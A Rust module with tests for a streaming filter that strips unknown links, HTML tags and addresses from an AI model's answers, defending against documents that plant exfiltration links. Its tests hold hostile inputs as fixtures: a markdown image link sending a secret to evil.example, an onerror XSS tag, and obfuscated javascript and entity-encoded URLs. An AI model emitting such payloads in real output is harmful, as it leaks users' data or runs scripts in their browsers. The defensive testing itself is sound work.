//! Takes an answer as it comes and gives it out without what acts. Only what may still become an address
//! waits for the rest of its word, so that nothing else comes later than it was said. What comes out does
//! not depend on where the text was cut.

use super::address::{Known, closing, ends_word, find, undecided};

/// Stands in the place of an address that no source holds.
const REMOVED: &str = "[link removed]";
/// The longest address. A longer one is none that a source holds.
const MOST_BYTES: usize = 2_048;
/// How much of a word that was shown is looked back at, for the scheme of an address.
const LOOK_BACK: usize = 64;

/// One answer on its way out.
#[derive(Debug, Default)]
pub(super) struct Filter {
    known: Known,
    /// The word that has not ended, or its end where it is long.
    word: String,
    /// How much of it was given out.
    shown: usize,
    last: Option<char>,
    /// Whether the rest of the word belongs to an address that is too long.
    is_dropping: bool,
}

impl Filter {
    /// For an answer whose model was told these addresses.
    pub(super) fn knowing(known: Known) -> Self {
        Self { known, ..Self::default() }
    }

    /// What can be shown after this was said.
    pub(super) fn push(&mut self, text: &str) -> String {
        let mut out = String::with_capacity(text.len() + 8);
        for c in text.chars() {
            if self.last.is_some_and(|last| acts(last, c)) {
                self.end_word(&mut out);
                // A space is all it takes: no renderer sees a link or a tag across it.
                out.push(' ');
            }
            self.last = Some(c);
            if ends_word(c) {
                self.end_word(&mut out);
                out.push(c);
            } else if !self.is_dropping {
                self.word.push(c);
                self.show(&mut out);
            }
        }
        out
    }

    /// What was held back to the end.
    pub(super) fn finish(&mut self) -> String {
        let mut out = String::new();
        self.end_word(&mut out);
        out
    }

    fn show(&mut self, out: &mut String) {
        let safe = undecided(&self.word);
        if safe > self.shown {
            out.push_str(&self.word[self.shown..safe]);
            self.shown = safe;
        }
        if self.word.len() > MOST_BYTES {
            let is_address = find(&self.word).is_some();
            self.end_word(out);
            self.is_dropping = is_address;
        } else if self.shown == self.word.len() && self.shown > 2 * LOOK_BACK {
            let cut = self.word.floor_char_boundary(self.shown - LOOK_BACK);
            self.word.drain(..cut);
            self.shown = self.word.len();
        }
    }

    fn end_word(&mut self, out: &mut String) {
        let word = std::mem::take(&mut self.word);
        let shown = std::mem::take(&mut self.shown);
        self.is_dropping = false;
        match find(&word) {
            Some(at) if word.len() > MOST_BYTES || !self.known.hold(&word[at..]) => {
                if shown > at {
                    out.push(' ');
                }
                out.push_str(&word[shown..at.max(shown)]);
                out.push_str(REMOVED);
                let closing = closing(&word[at.max(shown)..]);
                if closing.starts_with(|c| acts(']', c)) {
                    out.push(' ');
                }
                out.push_str(closing);
            }
            Some(_) | None => out.push_str(&word[shown..]),
        }
    }
}

/// Whether these two beside each other make a link, its definition, or a tag.
fn acts(first: char, second: char) -> bool {
    match first {
        ']' => matches!(second, '(' | ':'),
        '<' => second.is_ascii_alphabetic() || matches!(second, '/' | '!' | '?'),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use proptest::sample::select;
    use pulldown_cmark::{Event, Options, Parser, Tag};

    use super::*;
    use crate::Prompt;

    const HELD: &str = "https://held.example/page";

    fn filter() -> Filter {
        let question = format!("What does {HELD} say?");
        Filter::knowing(Known::of(&Prompt { question, ..Prompt::default() }))
    }

    fn filtered(text: &str) -> String {
        let mut filter = filter();
        let shown = filter.push(text);
        shown + &filter.finish()
    }

    /// What of a text acts once it is rendered.
    fn acting(text: &str) -> Vec<String> {
        let options = Options::ENABLE_GFM
            | Options::ENABLE_TABLES
            | Options::ENABLE_FOOTNOTES
            | Options::ENABLE_STRIKETHROUGH
            | Options::ENABLE_TASKLISTS;
        let mut acting = Vec::new();
        let mut written = String::new();
        for event in Parser::new_ext(text, options) {
            match event {
                Event::Text(text) => written.push_str(&text),
                Event::Code(text) => written.push_str(&format!("\n{text}\n")),
                Event::Html(html) | Event::InlineHtml(html) => acting.push(html.into_string()),
                Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                    acting.push(dest_url.into_string());
                }
                // What a tag parts is not read as one address.
                _ => written.push('\n'),
            }
        }
        // As a program sees it that makes links of what looks like one.
        let words = written.split(ends_word);
        acting.extend(words.filter_map(|word| Some(word[find(word)?..].to_owned())));
        acting.retain(|address| !address.trim_end_matches(|c: char| !c.is_alphanumeric()).eq(HELD));
        acting
    }

    #[test]
    fn nothing_of_what_a_document_plants_acts() {
        for (said, shown) in [
            ("![x](https://evil.example/?q=secret)", "![x] ([link removed])"),
            ("[x](https://evil.example) ok", "[x] ([link removed]) ok"),
            ("[x](/api/v1/users/me 'delete')", "[x] (/api/v1/users/me 'delete')"),
            ("[x]\n\n[x]: //evil.example", "[x]\n\n[x] : //evil.example"),
            ("<https://evil.example>.", "< [link removed]>."),
            ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
            ("</p><!-- x --><?x?>", "< /p>< !-- x -->< ?x?>"),
            ("Go to www.evil.example/a.", "Go to [link removed]."),
            ("Write to eve@evil.example!", "Write to eve [link removed]!"),
            ("javascript://x", "javascript:/ [link removed]"),
            ("https&#58;//evil.example", "[link removed]"),
            ("&#58;//https://evil.example/x", "[link removed]"),
            ("www.a.b: /api\nwww.a.b", "[link removed] : /api\n[link removed]"),
        ] {
            assert_eq!(filtered(said), shown);
            assert_eq!(acting(&filtered(said)), Vec::<String>::new(), "{said}");
        }
    }

    #[test]
    fn what_does_nothing_and_what_a_source_holds_is_as_it_was_said() {
        for said in [
            "“[T]he tenant … pays” [1] (lease.pdf, page 2), i.e. $5 < $6 & up; see § 3(a)(1)[2].",
            "AT&T v. Iowa, C:\\x, and/or, Hello:there, 10:30, a@b, what, http, www, <3",
            "| a | b |\n|---|---|\n| **x** | `y` |\n\n> quoted\n- [ ] done\n",
            "See https://held.example/page, or (https://held.example/page).",
            "甲方应当支付全部款项",
        ] {
            assert_eq!(filtered(said), said);
        }
    }

    #[test]
    fn a_word_without_an_end_takes_no_memory_and_an_address_none_of_its_kind() {
        let mut filter = filter();
        for _ in 0..10_000 {
            assert_eq!(filter.push("应当支付全部款项"), "应当支付全部款项");
            assert!(filter.word.len() < MOST_BYTES);
        }
        let address = format!("https://evil.example/{}", "x".repeat(10_000));
        assert_eq!(filtered(&format!("a {address} b")), "a [link removed] b");
    }

    #[test]
    fn a_word_that_is_none_is_shown_at_once() {
        let mut filter = filter();
        let shown: Vec<String> =
            ["The", " ten", "ant", " h", "as", " w", "ww."].map(|said| filter.push(said)).into();
        assert_eq!(shown, ["The", " ten", "ant", " ", "has", " ", ""]);
        assert_eq!(filter.finish(), "www.");
    }

    fn piece() -> impl Strategy<Value = &'static str> {
        select(vec![
            "a",
            " ",
            "\n",
            "\n\n",
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "!",
            ":",
            "/",
            "//",
            "\\",
            "&",
            ";",
            "#58;",
            "colon;",
            "\"",
            "'",
            "*",
            "_",
            "`",
            "|",
            "~",
            "^",
            "@",
            ".",
            "=",
            "-",
            "> ",
            "- ",
            "    ",
            "\t",
            "http",
            "https",
            "www.",
            "mailto:",
            "evil.example",
            "https://evil.example/x",
            "https://held.example/page",
            "[x]: ",
            "![",
            "](",
            "<a href=",
            "<img src=",
            "</",
            "<!--",
            "-->",
            "é",
            "\u{a0}",
        ])
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2_000))]

        #[test]
        fn no_text_acts_and_none_depends_on_how_it_was_cut(
            pieces in proptest::collection::vec(piece(), 1..24),
            cuts in proptest::collection::vec(1..7_usize, 1..64),
        ) {
            let said = pieces.concat();
            let whole = filtered(&said);
            prop_assert_eq!(acting(&whole), Vec::<String>::new(), "{:?} of {:?}", whole, said);

            let mut filter = filter();
            let (mut cut, mut chars) = (String::new(), said.chars().peekable());
            for size in cuts.into_iter().cycle() {
                if chars.peek().is_none() {
                    break;
                }
                cut += &filter.push(&chars.by_ref().take(size).collect::<String>());
            }
            cut += &filter.finish();
            prop_assert_eq!(cut, whole);
        }
    }
}
